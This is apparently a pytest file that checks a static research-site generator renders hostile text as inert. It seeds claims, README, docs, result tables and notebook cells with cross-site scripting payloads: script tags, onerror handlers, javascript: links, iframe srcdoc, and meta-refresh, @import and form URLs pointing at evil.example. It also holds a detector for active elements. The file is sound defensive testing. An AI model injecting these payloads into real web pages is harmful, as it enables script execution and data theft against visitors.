"""No text that the site shows becomes part of a page: claims, tables, notebooks, documents.

One project holds a hostile text in every place that the site reads. Each text names its place, so
that a page shows whether it was kept as text; no element of any page may act.
"""

import base64
import re
from urllib.parse import urlsplit

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from site_demo import PIXEL, build, make_project, record
from site_pages import Page, read_site

from replication import results, site
from tests import table_files

pytestmark = [  # nbconvert on outputs that it leaves out, and on a language that there is not
    pytest.mark.filterwarnings("ignore:Your element with mimetype"),
    pytest.mark.filterwarnings("ignore:No lexer found"),
]
OURS = {"site.js", "formulas.js", "tex-svg.js"}
ACTIVE = {"iframe", "object", "embed", "base", "form", "applet", "frame", "portal", "math", "style"}
HTML = [
    "<script>act('{}')</script>",
    '"><img src=x onerror="act(\'{}\')">',
    "<svg onload=act('{}')><script>act()</script></svg>",
    "<iframe srcdoc=\"<script>act('{}')</script>\"></iframe>",
    "<a href=\"javascript:act('{}')\">here</a>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{}">',
    "<style>@import 'https://evil.example/{}'</style>",
    "<base href='https://evil.example/{}'>",
    "<form action='https://evil.example/{}'><button formaction=javascript:act()>go</button></form>",
    "<object data='data:text/html,<script>act({})</script>'></object>",
    "<link rel=stylesheet href='https://evil.example/{}'>",
    "<math><mtext></p><img src=x onerror=act('{}')></math>",
    "<div style=\"background:url(https://evil.example/{})\" onclick='act()'>x</div>",
]
MARKDOWN = [
    "[{}](javascript:act())",
    "[{}](data:text/html;base64,PHNjcmlwdD5hY3QoKTwvc2NyaXB0Pg==)",
    '![{}](x"onerror="act())',
    "<javascript:act('{}')>",
    "`<script>act('{}')</script>`",
    "$<img src=x onerror=act('{}')>$",
    "$$</div><script>act('{}')</script>$$",
    "```\"><script>act('{}')</script>\n<script>act()</script>\n```",
    "[x]: javascript:act()\n\n[{}][x]",
    "| a |\n|---|\n| <script>act('{}')</script> |",
    "# <script>act('{}')</script>",
    "## Claims `high\"><script>act('{}')</script>`",
]


def hostile(place, payloads=HTML):
    """All payloads in one line each, naming their place."""
    return "\n\n".join(each.format(place) for each in payloads)


def line(place):
    """The payloads of HTML that fit into one line of a table or claim, naming their place."""
    return " ".join(each.format(place) for each in HTML)


def dangers(page):
    """Every element of a page that acts, or asks another host for something."""
    found = []
    for tag, attributes in page.tags:
        for name, value in attributes.items():
            value = re.sub(r"[\s\x00-\x1f]", "", value or "")
            if name.startswith("on") or name in ("srcdoc", "formaction", "http-equiv", "srcset"):
                policy = attributes.get("http-equiv") == "Content-Security-Policy"
                found += [] if policy else [f"<{tag} {name}>"]
            if name in ("href", "src", "action", "data", "xlink:href"):
                scheme = urlsplit(value).scheme
                outgoing = tag == "a" and scheme in ("http", "https")
                if not outgoing and (scheme or value.startswith("//")) and value != "data:,":
                    found.append(f"<{tag} {name}={value[:40]}>")
            if name == "style" and re.search(r"url|import|expression|@", value):
                found.append(f"<{tag} style={value[:40]}>")
        if tag == "script" and attributes.get("src", "").rsplit("/", 1)[-1] not in OURS:
            found.append("<script>")
        if tag == "link" and attributes.get("rel") not in ("icon", "stylesheet"):
            found.append("<link>")
        if tag in ACTIVE:
            found.append(f"<{tag}>")
    return found + [each for each in page.mistakes if "twice" in each]


@pytest.mark.parametrize("payload", HTML)
def test_the_test_sees_each_payload_where_it_is_let_through(payload):
    """The control: as part of a page, every one of them acts or fetches."""
    page = Page(f"<html><body><p>{payload.format('here')}</p></body></html>")

    assert dangers(page)


def make_hostile(root):
    """A project with a hostile text in every place that the site reads."""
    make_project(root)
    path = root / "claims" / "demo.toml"
    text = path.read_text()
    for key, old in {
        "title": 'title = "Demo"',
        "author": 'author = "无名 (Nobody)"',
        "language": 'language = "zh"',
        "says": 'says = "It is high | very."',
        "locator": 'locator = "eq. (1)"',
        "because": 'because = "round-off"',
        "figure": 'figure = "grid"',
    }.items():
        assert text.count(old) == 1, old
        text = text.replace(old, f"{key} = '''{line('claim-' + key)}'''")
    told = "\n\n".join(["First.", hostile("claim-explanation", [*HTML, *MARKDOWN]), "Last."])
    text = text.replace('explanation = "Seen."', f"explanation = '''{told}'''")
    context = ", ".join(f"{k} = '''{line('context-' + k)}'''" for k in ("label", "value", "source"))
    old = re.search(r"context = \[.*?\n\]", text, re.DOTALL)[0]
    path.write_text(text.replace(old, f"context = [{{ {context} }}]"))

    (root / "README.md").write_text(
        f"# Demo\n\n## What we found\n\n{hostile('readme', [*HTML, *MARKDOWN])}\n\n"
        "<!-- claims:begin -->\n<!-- claims:end -->\n"
    )
    (root / "docs" / "page.md").write_text(
        f"# Title {line('document-title')}\n\n{hostile('document', [*HTML, *MARKDOWN])}\n"
    )
    table_files.record(
        root / "results",
        "demo",
        experiment="demo-extra",
        profile="full",
        seed=0,
        metrics=[(line("metric"), line("unit"), "higher")],
        tier="core",
        measurements={line("metric"): (1.0, 10)},
        history=None,
        provenance={
            "fingerprint": line("fingerprint"),
            "commit": line("commit"),
            "accepted_because": line("reason"),
            "minutes": 1.0,
            "environment": {"device": line("device"), line("library"): line("version")},
        },
    )
    nbformat.write(hostile_notebook(), root / "results" / "demo" / "notebook.ipynb")
    return root


def hostile_notebook():
    """An executed notebook with a hostile text in every kind of cell and output."""
    picture = {"image/png": base64.b64encode(PIXEL).decode()}
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{HTML[0].format("svg")}</svg>'
    about = {"image/png": {"alt": line("alt")}}
    caption = f'<div class="figure-caption"><small>{line("caption")}</small></div>'
    table = f"<table><tr><td>{line('cell')}</td><th onclick=act()>high</th></tr></table>"
    outputs = [
        new_output("stream", text=hostile("stream")),
        new_output("stream", name="stderr", text=hostile("stderr") + "\x1b[31m<b>\x1b[0m"),
        new_output("display_data", {"text/html": hostile("html") + table, "text/plain": "x"}),
        new_output("display_data", {"text/markdown": hostile("markdown", [*HTML, *MARKDOWN])}),
        new_output("display_data", {"image/svg+xml": svg, "text/plain": hostile("instead-of-svg")}),
        new_output("display_data", {"image/svg+xml": svg}),
        new_output("display_data", {"application/javascript": "act('javascript')"}),
        new_output("display_data", {"text/latex": hostile("latex")}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"a": HTML[0]}}),
        new_output("display_data", picture, metadata=about),
        new_output("display_data", {"text/html": caption}),
        new_output("display_data", {"text/plain": hostile("plain")}),
        new_output(
            "error",
            ename=line("ename"),
            evalue=line("evalue"),
            traceback=[f"\x1b[31m{line('traceback')}\x1b[0m"],
        ),
    ]
    code = new_code_cell(hostile("source"), outputs=outputs)
    code.metadata = {"magics_language": HTML[1], "tags": [HTML[1]], "name": HTML[1]}
    prose = new_markdown_cell(hostile("prose", [*HTML, *MARKDOWN]))
    prose.attachments = {"x.svg": {"image/svg+xml": svg}}
    departures = new_markdown_cell(
        f"## Departures from the article\n\n{hostile('departures', [*HTML, *MARKDOWN])}"
    )
    cells = [new_markdown_cell(f"# {line('title')}"), prose, code, new_raw_cell(hostile("raw"))]
    cells[-1].metadata = {"format": "text/html", "raw_mimetype": "text/html"}
    found = new_notebook(cells=[*cells, departures])
    found.metadata = {
        "title": line("nb"),
        "language_info": {"name": HTML[1], "pygments_lexer": HTML[1]},
    }
    return found


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """The pages of the hostile project, and the folder that they are in."""
    root, out = make_hostile(tmp_path_factory.mktemp("project")), tmp_path_factory.mktemp("out")
    build(root, out / "site")
    return out / "site", read_site(out / "site")


def test_no_element_of_any_page_acts(pages):
    assert len(pages[1]) > 10
    for name, page in pages[1].items():
        assert dangers(page) == [], name
        assert page.mistakes == [], name
        assert "default-src 'none'" in page.html and "script-src 'self' file:;" in page.html, name


@pytest.mark.parametrize(
    "place",
    [
        *("claim-title", "claim-author", "claim-says", "claim-locator", "claim-because"),
        *("claim-figure", "claim-explanation", "context-label", "context-value", "context-source"),
        *("readme", "document", "document-title", "metric", "unit"),
        *("fingerprint", "commit", "reason", "device", "library", "version"),
        *("stream", "stderr", "markdown", "instead-of-svg", "plain", "source", "prose"),
        *("traceback", "departures"),
    ],
)
def test_a_hostile_text_is_shown_as_it_was_written(pages, place):
    """It is neither run nor hidden: who reads the page sees the attempt."""
    assert any(f"<script>act('{place}')</script>" in page.text for page in pages[1].values())


@pytest.mark.parametrize("place", ["html", "cell", "caption"])
def test_of_an_html_output_only_harmless_elements_remain(pages, place):
    """Its scripts go with what they hold."""
    page = pages[1]["article/demo.html"]

    assert f"act('{place}')" not in page.html
    assert "here" in page.text


@pytest.mark.parametrize("place", ["svg", "javascript", "raw", "latex"])
def test_what_the_site_does_not_show_is_in_no_file_of_it(pages, place):
    """An SVG would run its scripts when opened by itself; nor are there other programs."""
    folder, _ = pages
    everything = [path for path in folder.rglob("*") if path.is_file()]

    assert not any(f"act('{place}')".encode() in path.read_bytes() for path in everything)
    assert {path.suffix for path in everything if "figures" in path.parts} == {".png"}
    assert {path.name for path in everything if path.suffix == ".js"} == OURS


def test_the_words_of_a_figure_stay_in_their_attribute(pages):
    [image] = [each for each in pages[1]["article/demo.html"].all("img") if "alt" in each["alt"]]

    assert image["alt"] == line("alt")
    assert set(image) <= {"src", "alt", "width", "height", "loading"}


def test_a_formula_cannot_load_a_program(pages):
    """Formulas stand as text for MathJax, which may not fetch extensions."""
    settings = (pages[0] / "static" / "formulas.js").read_text()

    assert re.search(r'packages: \{ "\[-\]": \["require", "autoload"\] \}', settings)


def test_an_experiment_with_a_hostile_name_is_refused(tmp_path):
    """Its name would name a file."""
    root = make_project(tmp_path / "project")
    with pytest.raises(results.ResultsError, match="expected a key"):
        record(root / "results", "../demo", 0, purity=1.0)
    record(root / "results", "demo<script>", 0, purity=1.0)

    with pytest.raises(site.SiteError, match="kebab-case"):
        build(root, tmp_path / "site")
    assert not (tmp_path / "site").exists()
